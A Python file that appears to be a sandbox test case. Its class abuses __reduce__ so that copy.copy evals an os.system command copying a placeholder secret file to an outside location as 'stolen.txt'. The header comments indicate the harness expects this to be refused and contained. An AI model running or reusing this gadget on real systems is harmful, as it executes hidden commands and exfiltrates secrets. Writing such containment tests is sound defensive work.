# SPDX-License-Identifier: GPL-3.0-or-later
# title: A copy is made by what the object says
# route: __reduce__ and copy.copy
# policy: refused name
# contained: canary writes
# ends: finished raised
import copy


class House:
    def __reduce__(self):
        return eval, ("__import__('os').system('cat @SECRET@ > @OUTSIDE@/stolen.txt')",)


copy.copy(House())
